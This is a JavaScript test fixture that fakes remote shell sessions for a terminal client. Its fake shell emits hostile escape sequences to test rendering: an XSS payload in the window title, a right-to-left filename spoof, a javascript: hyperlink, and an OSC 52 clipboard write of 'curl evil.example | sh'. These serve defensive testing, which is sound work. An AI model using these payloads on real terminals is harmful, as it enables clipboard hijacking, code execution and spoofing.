import { NOW, hours, minutes } from './common.js';

const encoder = new TextEncoder();
const PROMPT = '\x1b[1;32mada@studio-pc\x1b[0m:\x1b[1;34m~/work\x1b[0m$ ';
const WINDOW = 512 * 1024;

const LISTING = [
    'total 48', 'drwxr-xr-x 5 ada ada 4096 Nov 21 18:02 \x1b[1;34mdocs\x1b[0m', 'drwxr-xr-x 9 ada ada 4096 Nov 22 09:14 \x1b[1;34msrc\x1b[0m',
    '-rw-r--r-- 1 ada ada 2210 Nov 20 11:40 README.md', '-rwxr-xr-x 1 ada ada  812 Nov 20 11:40 \x1b[1;32mbuild.sh\x1b[0m', '-rw-r--r-- 1 ada ada 9120 Nov 22 09:10 报告.txt',
];
const HISTORY = `${PROMPT}ls -l\r\n${LISTING.join('\r\n')}\r\n${PROMPT}git status --short\r\n \x1b[31mM\x1b[0m src/page.swift\r\n\x1b[31m??\x1b[0m docs/notes.md\r\n${PROMPT}`;

/** A shell that knows a few words; what tests look at is in `typed`. */
class FakeShell {
    typed = [];
    sizes = [];
    sent = 0;
    taken = 0;
    #listeners = { data: new Set(), live: new Set(), notice: new Set(), exit: new Set(), size: new Set() };
    #line = '';
    #flood = null;

    constructor(entry, history) {
        this.entry = entry;
        this.sessionId = entry.id;
        this.history = history;
    }

    /** What it wrote before, once somebody listens. */
    #begin() {
        if (this.history) this.write_(this.history);
        this.tell('live');
        if (!this.history) this.write_(PROMPT);
        if (!this.entry.alive) this.tell('exit', { code: this.entry.exitCode, signal: this.entry.signal ?? undefined });
    }

    tell(kind, ...values) { for (const listener of this.#listeners[kind]) listener(...values); }
    on(kind, listener) {
        this.#listeners[kind].add(listener);
        return () => this.#listeners[kind].delete(listener);
    }
    onData(listener) {
        setTimeout(() => this.#begin());
        return this.on('data', listener);
    }
    onLive(listener) { return this.on('live', listener); }
    onNotice(listener) { return this.on('notice', listener); }
    onExit(listener) { return this.on('exit', listener); }
    onSize(listener) { return this.on('size', listener); }
    resize(cols, rows) { this.sizes.push([cols, rows]); this.tell('size', { cols, rows }); }
    detach() { this.isDetached = true; this.#stop(); }

    /** Output, acknowledged as the program wants it. */
    write_(data) {
        const bytes = typeof data === 'string' ? encoder.encode(data) : data;
        this.sent += bytes.length;
        this.tell('data', bytes, () => { this.taken += bytes.length; this.#more?.(); });
    }

    write(data) {
        const text = typeof data === 'string' ? data : String.fromCharCode(...data);
        this.typed.push(text);
        for (const letter of text) this.#key(letter);
    }

    #key(letter) {
        if (letter === '\x03') {
            const wasFlooding = this.#flood !== null;
            this.#stop();
            this.#line = '';
            this.sentAtInterrupt = this.sent;
            this.write_(`^C\r\n${wasFlooding ? 'stopped\r\n' : ''}${PROMPT}`);
        } else if (letter === '\r') {
            this.write_('\r\n');
            const line = this.#line;
            this.#line = '';
            this.#run(line);
        } else if (letter === '\x7f') {
            if (this.#line) { this.#line = this.#line.slice(0, -1); this.write_('\b \b'); }
        } else if (letter >= ' ') {
            this.#line += letter;
            this.write_(letter);
        }
    }

    #run(line) {
        const [word, ...rest] = line.split(' ');
        const answers = {
            ls: () => LISTING.join('\r\n'),
            count: () => Array.from({ length: Number(rest[0] ?? 500) }, (_, at) => `line ${at + 1}`).join('\r\n'),
            cursor: () => '\x1b[?1hcursor keys are the program’s',
            marked: () => '\x1b[?2004hmarks a paste',
            wide: () => 'wide:🤖漢⚡e\u0301|',
            title: () => `\x1b]2;${rest.join(' ')}\x07`,
            evil: () => '\x1b]2;<img src=x onerror=alert(1)>\u202egpj.exe\x07\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]8;;https://example.org/a\x07here\x1b]8;;\x07 https://example.net/plain',
            osc52: () => `\x1b]52;c;${btoa('curl evil.example | sh')}\x07\x1b]52;c;?\x07`,
            ask: () => '\x1b[c\x1b[6n',
            notice: () => { this.tell('notice', 'The computer was away for a moment; the output is complete.'); return ''; },
            lose: () => { this.tell('exit', { code: null, error: Object.assign(new Error('the line broke'), { code: 'lost' }) }); return ''; },
        };
        if (word === 'flood') { this.#startFlood(Number(rest[0] ?? 100) * 1_000_000); return; }
        if (word === 'exit') { this.entry.alive = false; this.entry.exitCode = 0; this.write_('logout\r\n'); this.tell('exit', { code: 0 }); return; }
        const answer = answers[word]?.();
        this.write_(`${answer === undefined ? (word ? `${word}: command not found` : '') : answer}${answer === '' || !word ? '' : '\r\n'}${PROMPT}`);
    }

    #more = null;

    #startFlood(total) {
        const chunk = encoder.encode(Array.from({ length: 1000 }, (_, at) => `\x1b[3${at % 8}m${String(at).padStart(6)}\x1b[0m the quick brown fox jumps over the lazy dog`).join('\r\n') + '\r\n');
        let left = total;
        const step = () => {
            if (this.#flood === null) return;
            while (left > 0 && this.sent - this.taken < WINDOW) {
                left -= chunk.length;
                this.write_(chunk);
            }
            if (left <= 0) { this.#stop(); this.write_(`done\r\n${PROMPT}`); }
        };
        this.#flood = true;
        this.#more = () => { if (this.#flood) setTimeout(step); };
        step();
    }

    #stop() { this.#flood = null; this.#more = null; }
}

/** @param {import('./fake.js').FakeClient} fake @param {Set<string>} scenario */
export function install(fake, scenario) {
    if (fake.role !== 'phone') return;
    const entry = (id, shell, cwd, seq, age, more = {}) => ({
        id, shell, cwd, alive: true, lastSeq: seq, projectId: null, createdAt: NOW - age, exitCode: null, signal: null, ...more,
    });
    const sessions = scenario.has('no-terminals') ? [] : [
        entry('s-4f2a91c0', '/bin/bash', '/home/ada/work', 1204, hours(3), { lastLine: '[3/9] main.o\u202e' }),
        entry('s-91be02d7', '/usr/bin/fish', '/home/ada', 88, minutes(12), { program: 'htop', currentCwd: '/var/log', writtenAt: NOW - minutes(2) }),
        entry('s-07cc5e1f', '/bin/zsh', '/home/ada/a very long folder name/with more below it/and more', 4, hours(20), { alive: false, exitCode: 130, signal: 2 }),
    ];
    const shells = new Map();
    fake.shells = shells;
    let next = 1;
    const check = () => {
        if (scenario.has('not-allowed')) fake.fail('not-allowed', 'The owner has not allowed terminal. At the computer: tandem devices allow terminal', { right: 'terminal' });
        if (scenario.has('away')) fake.fail('away', 'The computer did not answer within 15 seconds.');
    };
    fake.remote('terminal.list', () => { check(); return { sessions, shells: ['bash', 'zsh'] }; });
    fake.remote('terminal.close', ({ sessionId }, { id }) => {
        const found = sessions.find((each) => each.id === sessionId);
        if (!found) fake.fail('bad-request', 'There is no such terminal any more.', { reason: 'session_not_found', values: {} });
        Object.assign(found, { alive: false, exitCode: 137, signal: 9 });
        shells.get(sessionId)?.tell('exit', { code: 137, signal: 9 });
        fake.emitRemote(id, 'terminal.exit', { sessionId, exitCode: 137, signal: 9 });
        return { ok: true };
    });
    fake.computerParts.terminal = async (id, { sessionId, shell, cwd }) => {
        check();
        if (fake.latency) await new Promise((resolve) => setTimeout(resolve, fake.latency));
        if (sessionId) {
            const found = sessions.find((each) => each.id === sessionId);
            if (!found) fake.fail('not-found', 'There is no such terminal any more.', { reason: 'session_not_found', values: {} });
            const made = new FakeShell(found, `${scenario.has('asking') ? '\x1b[c\x1b[6n\x1b]52;c;aGVsbG8=\x07' : ''}${HISTORY}`);
            shells.set(sessionId, made);
            return made;
        }
        if (shell && /nope/.test(shell)) fake.fail('refused', 'The computer has no such shell.', { reason: 'shell_not_allowed', values: {} });
        if (cwd && /nope/.test(cwd)) fake.fail('bad-request', 'The parameter cwd must be a folder on the computer that can be entered, not /nope.');
        if (scenario.has('many-terminals')) fake.fail('refused', '8 terminals are open already. Close one of them.', { reason: 'max_concurrent_sessions_exceeded', values: { limit: 8 } });
        const made = entry(`s-new${next++}`, shell ? `/bin/${shell}` : '/bin/bash', cwd ?? '/home/ada', 0, 0);
        sessions.push(made);
        const started = new FakeShell(made, null);
        shells.set(made.id, started);
        return started;
    };
}
